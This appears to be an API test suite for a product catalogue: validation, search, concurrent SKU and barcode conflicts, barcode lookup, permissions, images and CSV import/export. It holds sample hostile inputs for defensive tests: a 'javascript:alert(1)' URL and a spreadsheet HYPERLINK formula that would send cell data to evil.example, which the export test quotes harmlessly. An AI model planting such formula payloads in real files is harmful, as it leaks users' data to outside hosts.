import { randomUUID } from "node:crypto";
import { gtinCheckDigit, type ImportReport, type Product, productLookupSchema, productSchema } from "@glide/contracts";
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import pg from "pg";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { queryRows } from "../../db/client.ts";
import {
  as,
  createTestContext,
  freshDatabase,
  signIn,
  TEST_DATABASE_URL,
  type TestContext,
  waitingForLocks,
} from "../../test/harness.ts";
import { ADMIN_COOKIE } from "../admin-auth/admin-auth.hooks.ts";
import { exportProductsCsv } from "./products.csv.ts";
import { cellText, csvCell, MISSING_SKU } from "./products.csv-format.ts";

let ctx: TestContext;
let admin: ReturnType<typeof as>;
let cookie: string;
let adminEmail: string;

beforeAll(async () => {
  ctx = await createTestContext();
  ({ cookie, email: adminEmail } = await signIn(ctx.app));
  admin = as(ctx.app, cookie);
});
afterAll(() => ctx.close());

const ean = (body12: string) => `${body12}${gtinCheckDigit(body12)}`;
let seq = 0;
const sku = () => `T-${++seq}-${Math.random().toString(36).slice(2, 7)}`;

async function create(body: Record<string, unknown>): Promise<Product> {
  const res = await admin.post("/api/v1/products/", { sku: sku(), name: "Vara", price: 10, ...body });
  expect(res.statusCode, res.body).toBe(201);
  return productSchema.parse(res.json());
}

type AuditRow = {
  actor_email: string;
  action: string;
  entity_type: string;
  summary: string;
  before: unknown;
  after: unknown;
};
/** What the audit log holds about one product, oldest first. */
const auditOf = (productId: string) =>
  queryRows<AuditRow>(
    ctx.app.db,
    sql`select actor_email, action, entity_type, summary, before, after from audit_log
        where entity_id = ${productId} order by id`,
  );

const csvPost = (csv: string, query = "") =>
  ctx.app.inject({
    method: "POST",
    url: `/api/v1/products/import${query}`,
    payload: csv,
    headers: { "content-type": "text/csv" },
    cookies: { [ADMIN_COOKIE]: cookie },
  });

describe("adding products", () => {
  it("keeps every field and applies the defaults", async () => {
    const p = await create({
      name: "Mellanmjölk 1,5 %",
      description: "Färsk",
      category: "Mejeri",
      brand: "Arla",
      price: 17.9,
      barcode: ean("731000000001"),
      weight: 1030.5,
      length: 7.5,
      width: 7.5,
      height: 19.9,
      image_url: "https://images.example/mjolk.jpg",
    });
    expect(p).toMatchObject({
      price: 17.9,
      vat_rate: 25,
      is_active: true,
      barcode: ean("731000000001"),
      barcodes: [ean("731000000001")],
      weight: 1030.5,
      length: 7.5,
      age_limit: null,
    });
  });

  it.each([
    [{ sku: undefined }, "sku"],
    [{ name: "" }, "name: Name is required"],
    [{ price: undefined }, "price: Price is required"],
    [{ price: -1 }, "price: Price cannot be negative"],
    [{ price: 1.234 }, "price"],
    [{ vat_rate: 101 }, "vat_rate"],
    [{ vat_rate: -6 }, "vat_rate"],
    [{ barcode: "4006381333932" }, "barcode: not a valid EAN-13"],
    [{ barcodes: ["12345"] }, "barcodes.0"],
    [{ age_limit: 16 }, "age_limit"],
    [{ weight: -5 }, "weight"],
    [{ image_url: "javascript:alert(1)" }, "image_url"],
    [{ sku: "has space" }, "sku"],
  ])("rejects %j with 422 naming %s", async (override, field) => {
    const res = await admin.post("/api/v1/products/", { sku: sku(), name: "x", price: 1, ...override });
    expect(res.statusCode).toBe(422);
    expect(res.json().detail).toContain(field);
  });

  it("refuses a SKU in use, whatever its case, naming the product by its name and SKU", async () => {
    const p = await create({ sku: "DUP-SKU-1", name: "Första" });
    const res = await admin.post("/api/v1/products/", { sku: "dup-sku-1", name: "Andra", price: 1 });
    expect(res.statusCode).toBe(409);
    const detail = 'SKU dup-sku-1 is already used by "Första" (SKU DUP-SKU-1); choose another SKU';
    expect(res.json()).toEqual({ detail, code: "duplicate_sku", errors: [{ path: "sku", message: detail }] });
    expect(res.body).not.toContain(p.id);
  });

  it("names the product that won when two requests claim a SKU or barcode at once", async () => {
    const code = ean("731000000099");
    const results = await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        admin.post("/api/v1/products/", { sku: "RACE-1", name: `Racer ${i}`, price: 1, barcode: code }),
      ),
    );
    const won = results.filter((r) => r.statusCode === 201);
    expect(won).toHaveLength(1);
    const winner = won[0]!.json().name as string;
    for (const lost of results.filter((r) => r.statusCode !== 201)) {
      expect(lost.statusCode).toBe(409);
      expect(lost.json().code).toMatch(/^duplicate_(sku|barcode)$/);
      expect(lost.json().detail).toContain(`"${winner}" (SKU RACE-1)`);
    }
  });

  it("refuses a barcode in use, also in its UPC-A form, naming the product", async () => {
    await create({ name: "Amerikansk", barcode: "0036000291452" });
    const res = await admin.post("/api/v1/products/", { sku: sku(), name: "Kopia", price: 1, barcode: "036000291452" });
    expect(res.statusCode).toBe(409);
    expect(res.json().detail).toMatch(
      /^Barcode 0036000291452 already belongs to "Amerikansk" \(SKU T-\d+-\w+\); remove it there first$/,
    );
    expect(res.json().code).toBe("duplicate_barcode");
    expect(res.json().errors).toEqual([{ path: "barcodes", message: res.json().detail }]);
  });
});

describe("searching", () => {
  let kaffe: Product;
  beforeAll(async () => {
    kaffe = await create({
      sku: "ZOEGAS-450",
      name: "Zoégas Skånerost 450 g",
      brand: "Zoégas",
      category: "Kaffe",
      price: 64.95,
      barcodes: [ean("731120000045"), "04252614"],
    });
    await create({ name: "Gevalia Mellanrost", brand: "Gevalia", category: "Kaffe", price: 59.9 });
    await create({ name: "Billig kaffe", category: "Kaffe", price: 39.5 });
  });

  const search = async (q: string) =>
    z.array(productSchema).parse((await admin.get(`/api/v1/products/?search=${encodeURIComponent(q)}`)).json());

  it.each([["skånerost"], ["zoegas-4"], ["zoégas"], [ean("731120000045")], ["04252614"], ["042100005264"]])(
    "finds the product by %s",
    async (q) => {
      expect((await search(q)).map((p) => p.id)).toContain(kaffe.id);
    },
  );

  it("does not match barcodes by fragment", async () => {
    expect(await search("73112000")).toEqual([]);
  });

  it("matches % and _ literally, not as wildcards", async () => {
    const percent = await create({ name: "Juice 100% apelsin" });
    const thousand = await create({ name: "Juice 1000 ml" });
    const underscore = await create({ name: "Etikett snake_case" });
    const dash = await create({ name: "Etikett snake-case" });
    const ids = async (q: string) => (await search(q)).map((p) => p.id);
    expect(await ids("100%")).toContain(percent.id);
    expect(await ids("100%")).not.toContain(thousand.id);
    expect(await ids("e_c")).toEqual([underscore.id]);
    expect(await ids("e_c")).not.toContain(dash.id);
    const anyUnderscore = await search("_");
    expect(anyUnderscore.map((p) => p.id)).toContain(underscore.id);
    for (const p of anyUnderscore) expect(`${p.name} ${p.sku} ${p.brand ?? ""}`).toContain("_");
  });

  it("filters by category, sorts, pages and reports the total", async () => {
    const res = await admin.get("/api/v1/products/?category=Kaffe&sort=price&order=desc&limit=2&offset=0");
    expect(res.headers["x-total-count"]).toBe("3");
    expect(res.json().map((p: Product) => p.price)).toEqual([64.95, 59.9]);
    const next = await admin.get("/api/v1/products/?category=Kaffe&sort=price&order=desc&limit=2&offset=2");
    expect(next.json().map((p: Product) => p.price)).toEqual([39.5]);
    const byName = await admin.get("/api/v1/products/?category=Kaffe&sort=name");
    expect(byName.json().map((p: Product) => p.name)).toEqual([
      "Billig kaffe",
      "Gevalia Mellanrost",
      "Zoégas Skånerost 450 g",
    ]);
  });

  it("pages through a search in either order, with the total on every page and past the end", async () => {
    const page = (q: string) => admin.get(`/api/v1/products/?search=rost&category=Kaffe&${q}`);
    const first = await page("sort=price&order=asc&limit=1&offset=0");
    expect(first.headers["x-total-count"]).toBe("2");
    expect(first.json().map((p: Product) => p.name)).toEqual(["Gevalia Mellanrost"]);
    const second = await page("sort=price&order=asc&limit=1&offset=1");
    expect(second.headers["x-total-count"]).toBe("2");
    expect(second.json().map((p: Product) => p.name)).toEqual(["Zoégas Skånerost 450 g"]);
    const byNameDesc = await page("sort=name&order=desc");
    expect(byNameDesc.json().map((p: Product) => p.name)).toEqual(["Zoégas Skånerost 450 g", "Gevalia Mellanrost"]);
    expect(byNameDesc.json()[0].barcodes).toEqual(kaffe.barcodes);
    expect(kaffe.barcodes).toHaveLength(2);
    const past = await page("sort=name&limit=5&offset=10");
    expect(past.json()).toEqual([]);
    expect(past.headers["x-total-count"]).toBe("2");
    const none = await admin.get("/api/v1/products/?search=finns-inte-alls");
    expect(none.json()).toEqual([]);
    expect(none.headers["x-total-count"]).toBe("0");
  });

  it("lists the distinct categories", async () => {
    const res = await admin.get("/api/v1/products/categories");
    expect(res.json()).toEqual(expect.arrayContaining(["Kaffe", "Mejeri"]));
    expect(new Set(res.json()).size).toBe(res.json().length);
  });

  it("rejects a bad sort field and a huge page", async () => {
    expect((await admin.get("/api/v1/products/?sort=colour")).statusCode).toBe(400);
    expect((await admin.get("/api/v1/products/?limit=100000")).statusCode).toBe(400);
  });
});

describe("editing and deleting", () => {
  it("changes only the fields sent, and replaces the primary barcode", async () => {
    const p = await create({ name: "Före", price: 5, barcodes: [ean("731200000001"), ean("731200000002")] });
    const res = await admin.put(`/api/v1/products/${p.id}`, { name: "Efter", barcode: ean("731200000003") });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      name: "Efter",
      price: 5,
      barcode: ean("731200000003"),
      barcodes: [ean("731200000003"), ean("731200000002")],
    });
    const cleared = await admin.put(`/api/v1/products/${p.id}`, { weight: null, age_limit: 18, is_active: false });
    expect(cleared.json()).toMatchObject({ weight: null, age_limit: 18, is_active: false });
  });

  it("accepts the product's own SKU sent back with an edit, in any case", async () => {
    const p = await create({ sku: "OWN-SKU-1", name: "Före", barcode: ean("731200000011") });
    const same = await admin.put(`/api/v1/products/${p.id}`, { sku: "OWN-SKU-1", name: "Efter", barcode: p.barcode });
    expect(same.statusCode, same.body).toBe(200);
    expect(same.json()).toMatchObject({ sku: "OWN-SKU-1", name: "Efter", barcodes: [ean("731200000011")] });
    const recased = await admin.put(`/api/v1/products/${p.id}`, { sku: "own-sku-1" });
    expect(recased.statusCode, recased.body).toBe(200);
    expect(recased.json().sku).toBe("own-sku-1");
  });

  it("refuses to take another product's barcode and writes nothing", async () => {
    const a = await create({ barcode: ean("731300000001") });
    const b = await create({ name: "B", barcode: ean("731300000002") });
    const res = await admin.put(`/api/v1/products/${b.id}`, { name: "B2", barcodes: [ean("731300000001")] });
    expect(res.statusCode).toBe(409);
    const after = productSchema.parse((await admin.get(`/api/v1/products/${b.id}`)).json());
    expect(after).toMatchObject({ name: "B", barcodes: [ean("731300000002")] });
    expect((await admin.get(`/api/v1/products/${a.id}`)).json().barcodes).toEqual([ean("731300000001")]);
  });

  it("refuses another product's SKU on an edit, naming that product, before looking at the barcodes", async () => {
    await create({ sku: "UPPTAGEN-1", name: "Ägaren" });
    await create({ name: "Kodägaren", barcode: ean("731200000021") });
    const b = await create({ name: "Redigeras", barcode: ean("731200000022") });
    // Both the SKU and the barcode are taken: the SKU is named, as when adding.
    const res = await admin.put(`/api/v1/products/${b.id}`, {
      sku: "upptagen-1",
      name: "Ny titel",
      barcodes: [ean("731200000021")],
    });
    expect(res.statusCode).toBe(409);
    const detail = 'SKU upptagen-1 is already used by "Ägaren" (SKU UPPTAGEN-1); choose another SKU';
    expect(res.json()).toEqual({ detail, code: "duplicate_sku", errors: [{ path: "sku", message: detail }] });
    expect((await admin.get(`/api/v1/products/${b.id}`)).json()).toMatchObject({
      sku: b.sku,
      name: "Redigeras",
      barcodes: [ean("731200000022")],
    });
  });

  it("stores the price, weight to the milligram and sizes to the millimetre; null clears them, leaving them out keeps them", async () => {
    const p = await create({ price: 5, weight: 0.001, length: 0.1, width: 2.3, height: 19.9 });
    expect(p).toMatchObject({ price: 5, weight: 0.001, length: 0.1, width: 2.3, height: 19.9 });
    const url = `/api/v1/products/${p.id}`;
    // 1.1 cm is 11.000000000000002 mm in floating point: stored as whole millimetres.
    const changed = { price: 12.34, weight: 1234.567, length: 1.1, width: 0.7, height: 3.3 };
    const res = await admin.put(url, changed);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject(changed);
    expect((await admin.get(url)).json()).toMatchObject(changed);
    const renamed = await admin.put(url, { name: "Bara namnet" });
    expect(renamed.json()).toMatchObject({ name: "Bara namnet", ...changed });
    const cleared = await admin.put(url, { weight: null, length: null, width: null, height: null });
    expect(cleared.json()).toMatchObject({ price: 12.34, weight: null, length: null, width: null, height: null });
    expect((await admin.get(url)).json()).toMatchObject({ weight: null, length: null, width: null, height: null });
  });

  it("logs adding, editing and deleting with who did it, what changed and the product as it was", async () => {
    const p = await create({ sku: "LOGG-1", name: "Före", price: 5 });
    const edited = await admin.put(`/api/v1/products/${p.id}`, { name: "Efter", price: 6.5 });
    expect(edited.statusCode).toBe(200);
    const last = (await admin.get(`/api/v1/products/${p.id}`)).json();
    expect((await admin.delete(`/api/v1/products/${p.id}`)).statusCode).toBe(204);
    const entry = { actor_email: adminEmail, entity_type: "product" };
    expect(await auditOf(p.id)).toEqual([
      { ...entry, action: "product.create", summary: 'Product "Före" (SKU LOGG-1) created', before: null, after: p },
      {
        ...entry,
        action: "product.update",
        summary: 'Product "Efter" (SKU LOGG-1) updated: name (was "Före"), price',
        before: p,
        after: edited.json(),
      },
      {
        ...entry,
        action: "product.delete",
        summary: 'Product "Efter" (SKU LOGG-1) deleted',
        before: last,
        after: null,
      },
    ]);
  });

  it("answers 404 naming the id when the product does not exist, and logs nothing", async () => {
    const id = randomUUID();
    const url = `/api/v1/products/${id}`;
    for (const res of [await admin.get(url), await admin.put(url, { name: "x" }), await admin.delete(url)]) {
      expect(res.statusCode).toBe(404);
      expect(res.json()).toEqual({ detail: `Product ${id} not found`, code: "not_found" });
    }
    expect(await auditOf(id)).toEqual([]);
  });

  it("deletes, then answers 404", async () => {
    const p = await create({});
    expect((await admin.delete(`/api/v1/products/${p.id}`)).statusCode).toBe(204);
    expect((await admin.delete(`/api/v1/products/${p.id}`)).statusCode).toBe(404);
    expect((await admin.put(`/api/v1/products/${p.id}`, { name: "x" })).statusCode).toBe(404);
  });
});

/**
 * Two changes at the same moment. The audit log is held (a lock of our own) so that a change stops
 * just before it commits, its rows written but not yet visible: a second change then passes the
 * checks and runs into the database's unique index or row lock. PGlite runs one transaction at a
 * time, so this can only happen on PostgreSQL.
 */
describe.skipIf(!TEST_DATABASE_URL)("two changes at the same moment (PostgreSQL)", () => {
  const connect = async () => {
    const client = new pg.Client({ connectionString: ctx.databaseUrl });
    await client.connect();
    await client.query("begin");
    return client;
  };
  async function holdAuditLog() {
    const client = await connect();
    await client.query("lock table audit_log in exclusive mode");
    return async () => {
      await client.query("commit");
      await client.end();
    };
  }

  it("names the product that won when two adds claim a SKU", async () => {
    const release = await holdAuditLog();
    const first = admin.post("/api/v1/products/", { sku: "SAMTIDIG-1", name: "Först", price: 1 });
    await waitingForLocks(ctx.app.db, 1); // written, waiting to log
    const second = admin.post("/api/v1/products/", { sku: "samtidig-1", name: "Tvåa", price: 1 });
    await waitingForLocks(ctx.app.db, 2); // past the check, waiting on the first one's SKU
    await release();
    expect((await first).statusCode).toBe(201);
    const res = await second;
    const detail = 'SKU samtidig-1 is already used by "Först" (SKU SAMTIDIG-1); choose another SKU';
    expect(res.json()).toEqual({ detail, code: "duplicate_sku", errors: [{ path: "sku", message: detail }] });
    expect((await admin.get("/api/v1/products/?search=samtidig-1")).json()).toHaveLength(1);
  });

  it("names the product that won when two edits give away the same barcode", async () => {
    const a = await create({ name: "Hinner först" });
    const b = await create({ name: "Kommer sen" });
    const code = ean("731700000001");
    const release = await holdAuditLog();
    const first = admin.put(`/api/v1/products/${a.id}`, { barcodes: [code] });
    await waitingForLocks(ctx.app.db, 1);
    const second = admin.put(`/api/v1/products/${b.id}`, { name: "Kommer sen 2", barcode: code });
    await waitingForLocks(ctx.app.db, 2);
    await release();
    expect((await first).statusCode).toBe(200);
    const res = await second;
    const detail = `Barcode ${code} already belongs to "Hinner först" (SKU ${a.sku}); remove it there first`;
    expect(res.json()).toEqual({ detail, code: "duplicate_barcode", errors: [{ path: "barcodes", message: detail }] });
    expect((await admin.get(`/api/v1/products/${b.id}`)).json()).toMatchObject({ name: "Kommer sen", barcodes: [] });
  });

  it("asks to reload when the product that took the SKU is gone again before it can be named", async () => {
    const b = await create({ name: "Byter SKU" });
    const release = await holdAuditLog();
    const first = admin.post("/api/v1/products/", { sku: "FLYKTIG-1", name: "Kortlivad", price: 1 });
    await waitingForLocks(ctx.app.db, 1);
    const second = admin.put(`/api/v1/products/${b.id}`, { sku: "FLYKTIG-1" });
    await waitingForLocks(ctx.app.db, 2);
    // Queued for the whole table, this gets it the moment the edit has failed, before the edit asks who has the SKU.
    const remover = await connect();
    const locked = remover.query("lock table products in access exclusive mode");
    await waitingForLocks(ctx.app.db, 3);
    await release();
    const winner = productSchema.parse((await first).json());
    await locked;
    await remover.query("delete from products where id = $1", [winner.id]);
    await remover.query("commit");
    await remover.end();
    const res = await second;
    expect(res.json()).toEqual({
      detail: "The SKU or a barcode was just taken by another product; reload and try again",
      code: "duplicate",
    });
    expect(res.statusCode).toBe(409);
    expect((await admin.get(`/api/v1/products/${b.id}`)).json().sku).toBe(b.sku);
  });

  it("deletes once when two deletes of a product cross, and logs it once", async () => {
    const p = await create({ name: "Dubbelraderad" });
    const url = `/api/v1/products/${p.id}`;
    const release = await holdAuditLog();
    const first = admin.delete(url);
    await waitingForLocks(ctx.app.db, 1); // deleted, waiting to log
    const second = admin.delete(url);
    await waitingForLocks(ctx.app.db, 2); // found it, waiting on the first delete
    await release();
    expect((await first).statusCode).toBe(204);
    const res = await second;
    expect(res.statusCode).toBe(404);
    expect(res.json()).toEqual({ detail: `Product ${p.id} not found`, code: "not_found" });
    expect((await auditOf(p.id)).map((e) => e.action)).toEqual(["product.create", "product.delete"]);
  });
});

describe("looking up a scanned code", () => {
  const lookup = async (code: string) => {
    const res = await admin.get(`/api/v1/products/lookup/${code}`);
    return {
      status: res.statusCode,
      body: res.statusCode === 200 ? productLookupSchema.parse(res.json()) : res.json(),
    };
  };

  it("finds an ordinary code with the product's price", async () => {
    const p = await create({ price: 12.5, barcode: ean("731400000001") });
    expect((await lookup(ean("731400000001"))).body).toMatchObject({
      product: { id: p.id },
      measure: null,
      line_price: 12.5,
    });
  });

  it("reads the price from a variable-measure price label", async () => {
    const p = await create({ name: "Ost i bit", price: 129, barcode: ean("200555500000") });
    const { body } = await lookup(ean("200555502495"));
    expect(body).toMatchObject({ product: { id: p.id }, measure: { kind: "price", price: 24.95 }, line_price: 24.95 });
  });

  it("reads the weight from a weight label and prices it per kilogram", async () => {
    // Registered from a label that carried a weight; stored as the item.
    const p = await create({ name: "Lösgodis", price: 79.9, barcode: ean("230777701234") });
    expect(p.barcode).toBe(ean("230777700000"));
    const { body } = await lookup(ean("230777700350"));
    // 0.350 kg × 79.90 kr/kg = 27.965 → 27.97 kr
    expect(body).toMatchObject({
      product: { id: p.id },
      measure: { kind: "weight", weight_grams: 350 },
      line_price: 27.97,
    });
  });

  it("says exactly why a code is refused, and that no product has it, also for a label of an item nobody sells", async () => {
    expect(await lookup("7314000000010")).toEqual({
      status: 422,
      body: {
        detail: "code: not a valid EAN-13, EAN-8, UPC-A, UPC-E or GTIN-14 (check digit)",
        code: "invalid_barcode",
      },
    });
    // An ordinary code, a price label (24.95 kr) and a weight label (0.500 kg) of item 999999.
    for (const code of [ean("731499999998"), ean("209999902495"), ean("239999900500")]) {
      expect(await lookup(code)).toEqual({
        status: 404,
        body: { detail: `No product has barcode ${code}`, code: "unknown_barcode" },
      });
    }
  });

  it("answers 404 for an unknown code and 422 for a broken one", async () => {
    expect(await lookup(ean("731499999999"))).toMatchObject({ status: 404, body: { code: "unknown_barcode" } });
    const broken = await lookup("7314000000010");
    expect(broken.status).toBe(422);
    expect(broken.body.detail).toContain("code");
  });
});

describe("who may do what", () => {
  it("answers 401 to anonymous callers and lets store admins only read", async () => {
    const p = await create({});
    const anon = as(ctx.app, null);
    for (const res of await Promise.all([
      anon.get("/api/v1/products/"),
      anon.get(`/api/v1/products/${p.id}`),
      anon.post("/api/v1/products/", { sku: "x", name: "x", price: 1 }),
      anon.get("/api/v1/products/export"),
    ])) {
      expect(res.statusCode).toBe(401);
    }
    const storeAdmin = as(ctx.app, (await signIn(ctx.app, "store_admin")).cookie);
    expect((await storeAdmin.get("/api/v1/products/")).statusCode).toBe(200);
    expect((await storeAdmin.get(`/api/v1/products/lookup/${ean("731400000001")}`)).statusCode).toBe(200);
    for (const res of await Promise.all([
      storeAdmin.post("/api/v1/products/", { sku: sku(), name: "x", price: 1 }),
      storeAdmin.put(`/api/v1/products/${p.id}`, { name: "x" }),
      storeAdmin.delete(`/api/v1/products/${p.id}`),
    ])) {
      expect(res.statusCode).toBe(403);
      expect(res.json().detail).toBe("Only platform admins may change products");
    }
  });
});

describe("images", () => {
  const upload = (body: Buffer, type: string, who = cookie) =>
    ctx.app.inject({
      method: "POST",
      url: "/api/v1/products/images",
      payload: body,
      headers: { "content-type": type },
      cookies: { [ADMIN_COOKIE]: who },
    });

  it("resizes an upload, serves it from our origin with caching, and a product can use it", async () => {
    const png = await sharp({ create: { width: 2000, height: 1000, channels: 3, background: "#c00" } })
      .png()
      .toBuffer();
    const res = await upload(png, "image/png");
    expect(res.statusCode, res.body).toBe(201);
    const url: string = res.json().image_url;
    expect(url).toMatch(/^\/api\/v1\/products\/images\/[0-9a-f]{32}\.webp$/);
    const image = await ctx.app.inject({ method: "GET", url });
    expect(image.statusCode).toBe(200);
    expect(image.headers["content-type"]).toBe("image/webp");
    expect(image.headers["cache-control"]).toContain("immutable");
    const meta = await sharp(image.rawPayload).metadata();
    expect([meta.width, meta.height]).toEqual([800, 400]);
    expect((await create({ image_url: url })).image_url).toBe(url);
  });

  it("refuses other types, lying bytes and files over 5 MB", async () => {
    const gif = Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "binary");
    expect((await upload(gif, "image/gif")).json()).toEqual({
      detail: "Images must be JPEG, PNG or WebP",
      code: "unsupported_media_type",
    });
    expect((await upload(Buffer.from("not an image"), "image/png")).statusCode).toBe(415);
    const big = await upload(Buffer.alloc(5 * 1024 * 1024 + 1), "image/jpeg");
    expect(big.statusCode).toBe(413);
    expect(big.json().detail).toBe("Request body is larger than the limit of 5 MB");
    const storeAdmin = (await signIn(ctx.app, "store_admin")).cookie;
    expect((await upload(gif, "image/png", storeAdmin)).statusCode).toBe(403);
    expect((await upload(gif, "image/png", "not-a-session")).statusCode).toBe(401);
    expect((await ctx.app.inject({ method: "GET", url: "/api/v1/products/images/none.webp" })).statusCode).toBe(404);
  });
});

describe("SKUs with letters that fold differently", () => {
  it("names the product that has a SKU with Σ or İ, as it does for any SKU, also when a file updates it", async () => {
    for (const taken of ["AΣ", "İ-1"]) {
      const first = await create({ sku: taken, name: `Vara ${taken}` });
      const again = await admin.post("/api/v1/products/", { sku: taken, name: "Kopia", price: 5 });
      expect(again.statusCode).toBe(409);
      expect(again.json()).toMatchObject({ code: "duplicate_sku" });
      expect(again.json().detail).toContain(`"Vara ${taken}" (SKU ${taken})`);
      const dry = await csvPost(`sku,name,price\n${taken},Ny titel,7\n`);
      expect(dry.json().rows).toEqual([expect.objectContaining({ action: "update" })]);
      const applied = await csvPost(`sku,name,price\n${taken},Ny titel,7\n`, "?dry_run=false");
      expect(applied.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
      expect((await admin.get(`/api/v1/products/${first.id}`)).json().name).toBe("Ny titel");
    }
  });
});

describe("CSV import and export", () => {
  const header = "sku,name,category,brand,price,vat_rate,barcode,age_limit";

  it("reports per row in a dry run and writes nothing", async () => {
    const existing = await create({ sku: "CSV-EXIST", name: "Gammal" });
    const csv = [
      header,
      `CSV-NEW-1,"Snus ""Original"", portion",Tobak,General,55.5,25,${ean("731500000001")},18`,
      "CSV-EXIST,Ny titel,,,10,12,,",
      "CSV-BAD-1,,,,abc,25,,",
      `CSV-BAD-2,Dubbelkod,,,5,25,${ean("731500000001")},`,
      "CSV-NEW-1,Samma sku igen,,,5,25,,",
    ].join("\n");
    const res = await csvPost(csv);
    expect(res.statusCode, res.body).toBe(200);
    const report: ImportReport = res.json();
    expect(report).toMatchObject({ dry_run: true, created: 1, updated: 1, rejected: 3 });
    expect(report.rows.map((r) => [r.line, r.action])).toEqual([
      [2, "create"],
      [3, "update"],
      [4, "reject"],
      [5, "reject"],
      [6, "reject"],
    ]);
    expect(report.rows[2]!.errors.join(" ")).toContain("price");
    expect(report.rows[3]!.errors).toEqual([`barcode: ${ean("731500000001")} is also on line 2`]);
    expect(report.rows[4]!.errors).toEqual(["sku: CSV-NEW-1 is also on line 2"]);
    expect((await admin.get("/api/v1/products/?search=CSV-NEW")).json()).toEqual([]);
    expect((await admin.get(`/api/v1/products/${existing.id}`)).json().name).toBe("Gammal");

    const refused = await csvPost(csv, "?dry_run=false");
    expect(refused.statusCode).toBe(422);
    expect(refused.json().detail).toContain("Nothing was imported: 3 rows are rejected (first: line 4)");
    expect((await admin.get("/api/v1/products/?search=CSV-NEW")).json()).toEqual([]);

    const applied = await csvPost(csv, "?dry_run=false&skip_rejected=true");
    expect(applied.json()).toMatchObject({ dry_run: false, created: 1, updated: 1, rejected: 3 });
    const [snus] = (await admin.get("/api/v1/products/?search=CSV-NEW-1")).json() as Product[];
    expect(snus).toMatchObject({
      name: 'Snus "Original", portion',
      age_limit: 18,
      price: 55.5,
      barcode: ean("731500000001"),
    });
    expect((await admin.get(`/api/v1/products/${existing.id}`)).json()).toMatchObject({
      name: "Ny titel",
      vat_rate: 12,
    });
  });

  it("exports every matching product once across pages of a thousand", async () => {
    const rows = Array.from({ length: 2001 }, (_, i) => `SIDA-${String(i).padStart(4, "0")},Sidvara ${i},,,1,25,,`);
    const imported = await csvPost([header, ...rows].join("\n"), "?dry_run=false");
    expect(imported.json()).toMatchObject({ created: 2001, rejected: 0 });
    const exported = await admin.get("/api/v1/products/export?search=SIDA-");
    expect(exported.statusCode).toBe(200);
    const skus = (parse(exported.body, { bom: true, columns: true }) as Array<{ sku: string }>).map((r) => r.sku);
    expect(skus).toHaveLength(2001);
    expect(new Set(skus).size).toBe(2001);
    // Exactly one full page: the empty page after it ends the file.
    const one = await admin.get("/api/v1/products/export?search=SIDA-1");
    expect(parse(one.body, { bom: true, columns: true })).toHaveLength(1000);
  });

  it("reads the first page before sending anything, so a database that is away is an error, not a cut file", async () => {
    const { database, drop } = await freshDatabase();
    await database.close();
    await expect(exportProductsCsv({ db: database.db })).rejects.toThrow();
    await drop();
  });

  it("round-trips quotes, commas and Swedish letters through export and import", async () => {
    const tricky = await create({
      sku: "RUND-1",
      name: 'Räksmörgås "Deluxe", stor; åäö ÅÄÖ',
      description: "Rad ett\nRad två",
      category: "Färdigmat",
      brand: "Göteborgs Kex",
      price: 89.9,
      vat_rate: 12,
      barcodes: [ean("731600000001"), ean("731600000002")],
    });
    const exported = await admin.get("/api/v1/products/export?search=RUND-1");
    expect(exported.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(exported.headers["content-disposition"]).toContain("products.csv");
    expect(exported.body.startsWith("\uFEFFsku,name,description,")).toBe(true);
    expect(exported.body.trim().split("\n").length).toBeGreaterThan(1);

    await admin.put(`/api/v1/products/${tricky.id}`, { name: "Förstörd", barcodes: [ean("731600000003")] });
    const back = await csvPost(exported.body, "?dry_run=false");
    expect(back.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
    const restored = productSchema.parse((await admin.get(`/api/v1/products/${tricky.id}`)).json());
    expect(restored).toMatchObject({
      name: tricky.name,
      description: tricky.description,
      brand: tricky.brand,
      price: 89.9,
      vat_rate: 12,
      barcodes: tricky.barcodes,
    });
  });

  it("re-imports an unchanged export of a product with barcodes as an update", async () => {
    // An EAN-13, an EAN-8 and a weight label's item code: each is written back as the export shows it.
    const ean8 = `7310001${gtinCheckDigit("7310001")}`;
    const barcodes = [ean("731600000011"), ean8, ean("230888800000")];
    const p = await create({ sku: "OFORAND-1", name: "Oförändrad", barcodes });
    const exported = await admin.get("/api/v1/products/export?search=OFORAND-1");
    const dry = await csvPost(exported.body);
    expect(dry.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
    expect(dry.json().rows[0].errors).toEqual([]);
    const applied = await csvPost(exported.body, "?dry_run=false");
    expect(applied.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
    expect((await admin.get(`/api/v1/products/${p.id}`)).json().barcodes).toEqual(p.barcodes);
  });

  it("writes text that a spreadsheet would run as a formula with a leading quote, and reads it back", async () => {
    const risky = {
      sku: "-INJ-1",
      name: '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
      description: "-5 % rea",
      category: "@risk",
      brand: "+46 Kaffe",
    };
    const p = await create(risky);
    const quoted = await create({ sku: "INJ-2", name: "'=already quoted", brand: "'plain" });
    const exported = await admin.get("/api/v1/products/export?search=INJ-");
    const rows: Record<string, string>[] = parse(exported.body, { bom: true, columns: true });
    const row = rows.find((r) => r.name?.includes("HYPERLINK"))!;
    expect(row).toMatchObject({
      sku: "'-INJ-1",
      name: `'${risky.name}`,
      description: "'-5 % rea",
      category: "'@risk",
      brand: "'+46 Kaffe",
      price: "10",
    });
    expect(rows.find((r) => r.sku === "INJ-2")).toMatchObject({ name: "''=already quoted", brand: "'plain" });

    await admin.put(`/api/v1/products/${p.id}`, { name: "Ändrad", description: null, brand: null });
    const back = await csvPost(exported.body, "?dry_run=false");
    expect(back.json()).toMatchObject({ created: 0, updated: 2, rejected: 0 });
    expect((await admin.get(`/api/v1/products/${p.id}`)).json()).toMatchObject(risky);
    expect((await admin.get(`/api/v1/products/${quoted.id}`)).json()).toMatchObject({
      name: "'=already quoted",
      brand: "'plain",
    });
  });

  it("quotes only text cells: numbers, negative ones too, stay numbers", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(-0.25)).toBe("-0.25");
